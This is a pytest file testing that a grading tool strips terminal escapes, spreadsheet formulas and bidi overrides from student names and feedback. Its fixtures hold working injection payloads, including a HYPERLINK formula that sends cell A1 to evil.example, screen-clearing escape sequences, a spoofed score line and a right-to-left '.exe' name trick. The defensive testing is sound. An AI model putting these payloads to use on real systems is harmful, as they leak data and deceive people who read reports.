"""Attacks on whoever reads the grades (issue 8 §4): terminal escapes and carriage returns
in feedback and in student names, spreadsheet formulas in the CSV, bidi overrides that
reorder a name on screen. The printed table keeps no control character, the CSV no cell a
spreadsheet would run, and every student still gets their score.
"""

from __future__ import annotations

import csv
import unicodedata

import kit
import pytest

pytestmark = pytest.mark.slow

FULL, BLANK = (3, 2, 1), (0, 0, 0)
PARTS = ("ex98.linear_backward", "ex98.relu_backward", "ex98.answer")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME_FORMULA = '=HYPERLINK("evil.example","click")'  # a folder name has no "/"
ESCAPES = "\ralice  6 / 6\x1b[8m\x1b[2J\x1b[H\x1b]0;owned\x07\x9b31m\x08\x08"

ESCAPING = {  # the feedback of each part carries escapes and a formula
    PARTS[0]: f"def linear_backward(X, W, dout):\n    raise ValueError({ESCAPES!r})",
    PARTS[1]: f"def relu_backward(x, dout):\n    raise ValueError({FORMULA!r})",
    PARTS[2]: f"answer = {(FORMULA + ESCAPES)!r}",
}

# students: a tag each name keeps whatever is done to it, the name, its points
NAMES = [
    ("n0", "honest_full-n0", FULL),
    ("n1", "honest_blank-n1", BLANK),
    ("n2", "escaping-n2", BLANK),
    ("n3", f"{NAME_FORMULA}-n3", FULL),
    ("n4", "+1+1-n4", FULL),
    ("n5", "-2+3-n5", FULL),
    ("n6", "@SUM(1)-n6", FULL),
    ("n7", "\t=1+2-n7", FULL),
    ("n8", "eve\x1b[2J\x1b[31m\r-n8", FULL),
    ("n9", "bob\u202egnp.exe-n9", FULL),
]


def _notebook(tag: str):
    if tag == "n1":
        return kit.blank("ex98")
    if tag == "n2":
        nb = kit.blank("ex98")
        for pid, source in ESCAPING.items():
            kit.set_part(nb, pid, source)
        return nb
    return kit.solution("ex98")


@pytest.fixture(scope="module")
def printed(tmp_path_factory):
    folder = tmp_path_factory.mktemp("output")
    paths = [kit.write(folder, name, _notebook(tag), "ex98") for tag, name, _ in NAMES]
    with kit.Host([*paths, kit.source_path("ex98").parent]) as host:
        run = kit.grade(paths, "ex98", folder / "grades.csv", env=host.env)
        yield run, host.changes()


def _row(run, tag: str) -> dict:
    found = [row for student, row in run.rows.items() if f"-{tag}" in student]
    assert len(found) == 1, f"one row named with -{tag} expected, got {sorted(run.rows)}"
    return found[0]


def test_run_completes_with_every_row(printed):
    run = printed[0]
    assert run.returncode == 0 and not run.hung, run.stderr[-2000:]
    assert len(run.rows) == len(NAMES), sorted(run.rows)


@pytest.mark.parametrize(("tag", "points"), [(tag, pts) for tag, _, pts in NAMES])
def test_every_student_gets_their_score(printed, tag, points):
    row = _row(printed[0], tag)
    assert row["total"] == sum(points), row


def _controls(text: str) -> list[str]:
    """Characters that move the cursor, rewrite the screen or reorder text."""
    return sorted({repr(c) for c in text if c != "\n" and (
        unicodedata.category(c) == "Cc" or unicodedata.bidirectional(c) in
        ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"))})


def test_printed_table_has_no_control_characters(printed):
    assert _controls(printed[0].stdout) == []


def test_printed_table_cannot_be_spoofed(printed):
    """A learner's feedback cannot print a line that looks like another student's score."""
    lines = printed[0].stdout.splitlines()
    assert not [line for line in lines if line.startswith("alice")]


def test_csv_has_no_formula_and_no_escape(printed):
    with open(printed[0].out_path, newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert [c for c in cells if "\x1b" in c or "\x9b" in c] == []


def test_nothing_outside_the_sandbox_changed(printed):
    assert printed[1] == []
